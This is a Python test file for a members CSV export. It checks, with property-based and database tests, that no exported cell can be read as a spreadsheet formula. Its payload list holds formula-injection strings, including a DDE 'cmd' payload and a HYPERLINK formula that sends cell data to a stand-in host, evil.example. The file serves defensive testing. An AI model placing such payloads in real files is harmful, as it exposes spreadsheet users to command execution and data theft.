"""What a spreadsheet makes of the members' file: text, whatever somebody has called themselves or their group."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from organizations.exporting import export_members
from organizations.members_csv import COLUMNS, guarded, joined, separate, unguarded
from tests.factories import DeviceFactory, GroupFactory, OrganizationFactory, member

# As OWASP lists them, and their full-width forms, which some take for the same.
FORMULAS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
PAYLOADS = [
    *('=cmd|" /C calc"!A0', "+1+1", "-2+3", "@SUM(1,2)", '=HYPERLINK("http://evil.example?x="&A1,"x")', "\uff1d1+1"),
    # Where a semicolon ends a cell, this begins another one; quotes around it are not of the text then.
    *("Anna;=1+1", 'Anna;"=1+1', 'Anna;""=1+1', "Anna;'=1+1", ";=1+1", 'Anna";"=1+1";"', '"=1+1', "a;=1;+2;-3;@4"),
]

awkward = st.text(alphabet="=+-@'\";,<>a \uff1d", max_size=12)
text = (awkward | st.text(st.characters(exclude_categories=["Cc", "Cs"]), max_size=12)).map(str.strip)


def line_of(single: str, several: list[str]) -> str:
    """Return a line of the file, as an export writes it."""
    out = io.StringIO(newline="")
    csv.writer(out).writerow(["anna", guarded(single), "Last", joined(several), ""])
    return out.getvalue()


def cells_of(line: str) -> list[str]:
    """Return what spreadsheets may take for the cells of a line: by comma, by semicolon, with and without quotes."""
    found = [cell for mark in ",;" for row in csv.reader([line], delimiter=mark) for cell in row]
    return found + [cell.lstrip('"') for cell in line.split(";")]


@given(single=text, several=st.lists(text.filter(bool), unique=True, max_size=4))
@example(single=PAYLOADS[0], several=PAYLOADS)
@example(single='a;"=1', several=['"=1', "''=1", 'b;"";"=1'])
def test_no_cell_is_a_formula_and_all_of_it_comes_back(single: str, several: list[str]) -> None:
    assert [cell for cell in cells_of(line_of(single, several)) if cell.startswith(FORMULAS)] == []
    assert unguarded(guarded(single)) == single
    assert separate(joined(several)) == several


@pytest.mark.django_db
def test_the_file_of_an_organization_has_none() -> None:
    organization = OrganizationFactory()
    for number, payload in enumerate(PAYLOADS):
        user = member(organization, login=f"-{number}", first_name=payload, last_name=payload, email="+a@example.org")
        GroupFactory(organization=organization, name=payload).memberships.add(user.memberships.get())
        DeviceFactory(user=user, way="app", address=payload)
        DeviceFactory(user=user, way="sms", address=f"+4915112345{number:02}")
    lines = export_members(organization=organization).decode("utf-8-sig").split("\r\n")
    assert len(lines) == len(PAYLOADS) + 2
    assert [cell for line in lines for cell in cells_of(line) if cell.startswith(FORMULAS)] == []
    assert lines[0] == ",".join(COLUMNS)
